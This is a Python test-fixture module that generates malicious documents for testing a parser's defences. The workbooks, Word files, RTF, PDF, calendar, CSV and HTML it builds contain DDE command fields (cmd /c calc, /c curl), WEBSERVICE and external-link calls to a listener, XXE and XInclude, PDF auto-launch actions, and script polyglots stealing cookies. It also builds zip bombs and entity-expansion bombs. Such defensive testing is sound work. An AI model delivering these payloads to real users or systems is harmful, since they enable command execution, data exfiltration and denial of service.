"""Files that would call somebody, run something, or fill the memory, if a reader let them. ``{url}`` is a listener."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from docx import Document

from tests.xlsx_files import package, small_list, with_part

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _related(parts: Mapping[str, bytes], part: str, *links: tuple[str, str]) -> dict[str, bytes]:
    """The parts with further relations of ``part``: (kind, address outside)."""
    folder, _, name = part.rpartition("/")
    where = f"{folder}/_rels/{name}.rels"
    told = parts.get(where, f'<Relationships xmlns="{_RELATED}"></Relationships>'.encode())
    more = "".join(
        f'<Relationship Id="rIdX{at}" Type="{_RELATIONS}/{kind}" Target="{url}" TargetMode="External"/>'
        for at, (kind, url) in enumerate(links)
    )
    return {**parts, where: told.replace(b"</Relationships>", more.encode() + b"</Relationships>")}


def linked_workbook(url: str) -> bytes:
    """A link to another workbook, a web query, a DDE link, a picture and an OLE object elsewhere, macros, and formulas
    that fetch."""
    parts = _parts(small_list())
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_RELATIONS}">'
        '<externalBook r:id="rIdX0"><sheetNames><sheetName val="S"/></sheetNames></externalBook>'
        '<ddeLink ddeService="cmd" ddeTopic="/c curl"/></externalLink>'
    ).encode()
    parts = _related(parts, "xl/externalLinks/externalLink1.xml", ("externalLinkPath", f"{url}/a.xlsx"))
    parts["xl/connections.xml"] = (
        f'<connections><connection id="1"><webPr url="{url}/q"/></connection></connections>'.encode()
    )
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"AutoOpen" * 99
    sheet = next(name for name in parts if name.startswith("xl/worksheets/sheet"))
    parts = _related(parts, sheet, ("image", f"{url}/p.png"), ("oleObject", f"{url}/o.bin"), ("hyperlink", url))
    row = f'<row r="90"><c r="A90"><f>WEBSERVICE("{url}/w")</f><v>1</v></c><c r="B90"><f>[1]S!A1</f><v>2</v></c></row>'
    parts[sheet] = parts[sheet].replace(b"</sheetData>", row.encode() + b"</sheetData>")
    return package(parts)


def _document(url: str) -> dict[str, bytes]:
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("关于报送有关情况的通知，请各村于月底前报送。" * 3)
    document.add_table(2, 2).cell(0, 0).text = "姓名"
    document.save(out)
    return _parts(out.getvalue())


def linked_document(url: str) -> bytes:
    """A template, a picture and a piece of text elsewhere; fields that fetch and run."""
    parts = _related(_document(url), "word/settings.xml", ("attachedTemplate", f"{url}/t.dotm"))
    parts = _related(
        parts, "word/document.xml", ("image", f"{url}/p.png"), ("aFChunk", f"{url}/c.html"), ("frame", f"{url}/f")
    )
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> DDEAUTO c:\\\\cmd "/c calc" </w:instrText></w:r>'
        f'<w:r><w:instrText> INCLUDEPICTURE "{url}/i.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:altChunk xmlns:r="' + _RELATIONS + '" r:id="rIdX1"/>'
    )
    body = parts["word/document.xml"]
    at = body.index(b"<w:tbl>")
    parts["word/document.xml"] = body[:at] + field.encode() + body[at:]
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate xmlns:r="' + _RELATIONS.encode() + b'" r:id="rIdX0"/></w:settings>'
    )
    return package(parts)


def entity_workbook(url: str) -> bytes:
    """XXE: a general and a parameter entity elsewhere."""
    head = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "{url}/p.dtd">%p;<!ENTITY x SYSTEM "{url}/x">]>'
    return with_part(small_list(), "xl/workbook.xml", lambda xml: head.encode() + xml[xml.index(b"<workbook") :])


def including_workbook(url: str) -> bytes:
    """XInclude, and a style sheet elsewhere."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/i" parse="text"/>'.encode()
    look = f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>'.encode()
    return _sheet(
        lambda xml: look + xml[xml.index(b"<worksheet") :].replace(b"</sheetData>", include + b"</sheetData>")
    )


def web_page(url: str) -> bytes:
    return (
        f'<html><head><base href="{url}/"><link rel="stylesheet" href="{url}/a.css"><meta http-equiv="refresh" '
        f'content="0;url={url}/r"></head><body background="{url}/b.png"><img src="{url}/i.png"><iframe src="{url}/f">'
        f'</iframe><object data="{url}/o"></object><script src="{url}/s.js"></script><table><tr><td>村名</td><td>人口'
        "</td></tr><tr><td>甲</td><td>3</td></tr></table></body></html>"
    ).encode()


def rich_text(url: str) -> bytes:
    return (
        r"{\rtf1\ansi{\*\template " + url + r"/t.dotm}{\field{\*\fldinst INCLUDEPICTURE " + f'"{url}/i.png"' + r" \\d}}"
        r"{\field{\*\fldinst DDEAUTO cmd \"/c calc\"}}"
        r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}} hello\par}"
    ).encode()


def portable_document(url: str) -> bytes:
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('" + url + "/j'))>>"
        "/AA<</WC<</S/URI/URI(" + url + "/u)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/Launch/F(calc.exe)>>>>>>endobj\n"
        "trailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def calendar(url: str) -> bytes:
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nBEGIN:VTIMEZONE\r\nTZID:Evil\r\n"
        f"TZURL:{url}/tz\r\nEND:VTIMEZONE\r\n"
        f"BEGIN:VEVENT\r\nUID:1\r\nSUMMARY:会\r\nDTSTART:20260101T010000Z\r\nATTACH:{url}/a\r\nURL:{url}/u\r\nEND:VEVENT\r\n"
        "END:VCALENDAR\r\n"
    ).encode()  # fmt: skip


CALLERS: dict[str, Callable[[str], bytes]] = {
    "workbook.xlsm": linked_workbook, "document.docx": linked_document, "entities.xlsx": entity_workbook,
    "including.xlsx": including_workbook, "page.xls": web_page, "document.pdf": portable_document,
    "meetings.ics": calendar, "plain.csv": lambda url: f'村名,值\r\n甲,"=WEBSERVICE(""{url}/w"")"\r\n'.encode(),
}  # fmt: skip


def nested(depth: int = 4) -> bytes:
    """Archives in archives, each ten times in the next."""
    inner = bytes(1 << 20)
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for at in range(10):
                archive.writestr(f"{level}-{at}.zip", inner)
        inner = out.getvalue()
    return inner


def swelling() -> bytes:
    """A sheet of half a gigabyte in half a megabyte: one packed mebibyte, again and again."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = squeezer.compress(bytes(1 << 20)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    body = block * 512 + squeezer.flush()
    return _by_hand([("xl/workbook.xml", body, 512 << 20), ("[Content_Types].xml", b"\3\0", 0)])


def overlapping() -> bytes:
    """A thousand entries of one and the same packed data."""
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    body = squeezer.compress(bytes(20 << 20)) + squeezer.flush()
    names = ["xl/workbook.xml", *(f"xl/worksheets/sheet{at}.xml" for at in range(1_000))]
    return _by_hand([(name, body, 20 << 20) for name in names], shared=True)


def crowded() -> bytes:
    return _by_hand([(f"xl/{at}.xml", b"\3\0", 0) for at in range(21_000)])


def _by_hand(members: list[tuple[str, bytes, int]], *, shared: bool = False) -> bytes:
    out, directory, first = bytearray(), bytearray(), 0
    for number, (name, body, size) in enumerate(members):
        told = name.encode()
        if not (shared and number):
            first = len(out)
            out += struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(body), size, len(told), 0) + told + body
        directory += (
            struct.pack(
                "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(body), size, len(told), 0, 0, 0, 0, 0, first
            )
            + told
        )
    count = min(len(members), 0xFFFE)
    return bytes(out + directory + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(out), 0))


def _sheet(xml: Callable[[bytes], bytes]) -> bytes:
    name = next(one for one in _parts(small_list()) if one.startswith("xl/worksheets/sheet"))
    return with_part(small_list(), name, xml)


def laughing() -> bytes:
    lines = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    return _declaring(f'<!DOCTYPE w [<!ENTITY l0 "lol">{lines}]>'.encode(), b"&l11;")


def quadratic() -> bytes:
    return _declaring(b'<!DOCTYPE w [<!ENTITY a "' + b"a" * 100_000 + b'">]>', b"&a;" * 10_000)


def laughing_document() -> bytes:
    parts = _document("")
    body, head = parts["word/document.xml"], b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    parts["word/document.xml"] = head + body[body.index(b"<w:document") :].replace(b"<w:t>", b"<w:t>&b;", 1)
    return package(parts)


def _declaring(head: bytes, used: bytes) -> bytes:
    return _sheet(lambda xml: head + xml[xml.index(b"<worksheet") :].replace(b"<t>", b"<t>" + used, 1))


def deep() -> bytes:
    return _sheet(lambda xml: xml.replace(b"<sheetData>", b"<a>" * 200_000 + b"<sheetData>"))


def deep_document() -> bytes:
    parts = _document("")
    body = parts["word/document.xml"]
    at = body.index(b"<w:tbl>")
    parts["word/document.xml"] = body[:at] + b"<w:sdt><w:sdtContent>" * 20_000 + body[at:]
    return package(parts)


def huge_attribute() -> bytes:
    return _sheet(lambda xml: xml.replace(b"<sheetData>", b'<sheetData x="' + b"y" * (8 << 20) + b'">'))


def many_attributes() -> bytes:
    some = b"".join(b' a%d="1"' % at for at in range(100_000))
    return _sheet(lambda xml: xml.replace(b"<sheetData>", b"<sheetData" + some + b">"))


BOMBS: dict[str, Callable[[], bytes]] = {
    one.__name__: one
    for one in (nested, swelling, overlapping, crowded, laughing, laughing_document, quadratic, deep, deep_document,
                huge_attribute, many_attributes)
}  # fmt: skip

_HTML = b"<html><script>alert(document.cookie)</script><table><tr><td>a</td></tr></table></html>"
POLYGLOTS: dict[str, bytes] = {
    "page before an archive": _HTML + small_list(),
    "archive with a page behind": small_list() + _HTML,
    "picture before an archive": b"\x89PNG\r\n\x1a\n" + b"\0" * 64 + small_list(),
    "PDF that is a page": b"%PDF-1.4\n%" + _HTML + portable_document("http://127.0.0.1"),
    "picture that is a script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
    "workbook under another name": small_list(),
    "half a workbook": small_list()[: len(small_list()) // 2],
    "half an old workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 300,
}
